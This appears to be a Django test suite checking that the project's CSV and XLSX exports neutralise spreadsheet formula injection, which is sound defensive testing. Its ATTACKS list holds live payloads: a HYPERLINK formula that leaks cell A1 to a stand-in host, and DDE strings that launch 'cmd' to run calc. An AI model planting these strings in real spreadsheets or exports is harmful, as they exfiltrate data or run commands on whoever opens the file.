"""Formula injection is neutralised in every CSV and XLSX export (OWASP rule)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook

from config.spreadsheets import spreadsheet_cell, spreadsheet_row
from observatoire.models import Indicator, IndicatorValue
from observatoire.services import catalogue_import
from pratiques.models import Answer
from territoires.models import ActorProfile
from tests.conftest import logged_in
from tests.observatoire.conftest import CATALOGUE_CSV
from tests.pratiques import test_curation_analytics as analytics
from tests.pratiques.helpers import submitted

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("https://exemple.invalid/?x="&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_starting_like_a_formula_is_prefixed(attack: str) -> None:
    assert spreadsheet_cell(attack) == "'" + attack


def test_numbers_and_ordinary_text_are_left_alone() -> None:
    assert spreadsheet_row([-3.5, -12, 0, None, "-3.5", "-12,4", "+7", "1e-3", "Vincennes"]) == [
        -3.5,
        -12,
        0,
        None,
        "-3.5",
        "-12,4",
        "+7",
        "1e-3",
        "Vincennes",
    ]
    assert spreadsheet_cell("a=b") == "a=b"
    assert spreadsheet_cell("-") == "'-"


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def assert_neutralised(cells: list[Any], attacks: list[str]) -> None:
    for attack in attacks:
        assert "'" + attack in cells, attack
        assert attack not in cells, attack


def test_the_catalyst_csv_exports(alice: User, geo: Any) -> None:
    assessment = submitted(alice, geo.vincennes, 2, 3)
    answers = list(Answer.objects.filter(assessment=assessment).order_by("pk")[: len(ATTACKS)])
    for answer, attack in zip(answers, ATTACKS, strict=True):
        Answer.objects.filter(pk=answer.pk).update(comment=attack)
    client = logged_in(alice)
    for url in (
        f"/pratiques/evaluations/{assessment.pk}/export.csv",
        "/pratiques/mes-donnees/export.csv",
    ):
        text = client.get(url).content.decode("utf-8-sig")
        # The carriage-return attack is read back by csv as a quoted cell.
        assert_neutralised(csv_cells(text), ATTACKS)


def test_the_territory_indicators_csv(geo: Any) -> None:
    catalogue_import(data=CATALOGUE_CSV.encode(), file_name="catalogue.csv")
    indicator = Indicator.objects.get(code="TX_CHOM")
    Indicator.objects.filter(pk=indicator.pk).update(
        label=ATTACKS[0], unit="@unite", source="-source"
    )
    IndicatorValue.objects.create(
        indicator=indicator, territory=geo.vincennes, year=2021, value=-4.5
    )
    text = Client().get("/territoires/commune/94080/indicateurs.csv").content.decode()
    cells = csv_cells(text)
    assert_neutralised(cells, [ATTACKS[0], "@unite", "-source"])
    assert "-4.5" in cells  # a negative number stays a number


def test_the_admin_csv_and_xlsx_exports(nadia: User, geo: Any) -> None:
    analytics.submitted(5, geo)
    profile = ActorProfile.objects.order_by("order").first()
    ActorProfile.objects.filter(pk=profile.pk).update(label=ATTACKS[0])
    from pratiques.aggregates import release_aggregates

    release_aggregates()  # the export is produced at a release (issue 23)
    client = logged_in(nadia)
    response = client.get(analytics.CSV)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert_neutralised(csv_cells(text), [ATTACKS[0]])
    workbook = load_workbook(io.BytesIO(client.get(analytics.XLSX).content))
    sheet = workbook["reponses"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    profile_cells = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert len(profile_cells) == 5 * 24
    # Written as strings, never as live formulas.
    assert all(cell.data_type == "s" and cell.value == "'" + ATTACKS[0] for cell in profile_cells)
    assert not any(cell.data_type == "f" for cell in cells)


def test_no_module_writes_csv_without_the_safe_writer() -> None:
    """Every CSV goes through config.spreadsheets.csv_writer: a direct ``csv.writer`` skips it."""
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parents[2]
    direct = re.compile(r"\bcsv\s*\.\s*writer\s*\(|from\s+csv\s+import\s+[^\n]*\bwriter\b")
    offenders = []
    for package in ("config", "territoires", "pratiques", "observatoire", "accounts", "bench"):
        for path in (root / package).rglob("*.py"):
            if path.relative_to(root).as_posix() == "config/spreadsheets.py":
                continue
            if direct.search(path.read_text(encoding="utf-8")):
                offenders.append(path.relative_to(root).as_posix())
    assert offenders == []


def test_the_safe_writer_prefixes_every_formula() -> None:
    from config.spreadsheets import csv_writer

    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", "-3,5", "texte"])
    writer.writerows([["@SUM(1)", 2]])
    assert out.getvalue().splitlines() == ["'=1+1;-3,5;texte", "'@SUM(1);2"]


def test_the_examples_open_export_starts_with_a_byte_order_mark(geo: Any) -> None:
    """A spreadsheet program reads UTF-8 accents right only after the mark (csv_response)."""
    response = Client().get("/pratiques/exemples/export.csv")
    assert response.status_code == 200 and response.content.startswith("\ufeff".encode())
    header = response.content.decode("utf-8-sig").splitlines()[0]
    assert header.startswith("id,titre,resume,")


def test_the_streamed_csv_is_the_same_as_the_whole_one() -> None:
    from config.spreadsheets import csv_response, csv_streaming_response

    rows = [["a", "=1+1", "é"], [1, None, "-2,5"]]
    whole = csv_response(rows, "f.csv")
    streamed = csv_streaming_response(iter(rows), "f.csv")
    assert b"".join(streamed.streaming_content) == whole.content
    assert whole.content.decode("utf-8-sig").splitlines() == ["a;'=1+1;é", "1;;-2,5"]
    assert streamed["Content-Disposition"] == whole["Content-Disposition"]
    assert streamed["Content-Type"] == "text/csv; charset=utf-8"
    preamble = csv_response(rows, preamble="# note\n").content.decode("utf-8-sig")
    assert preamble.splitlines()[0] == "# note"
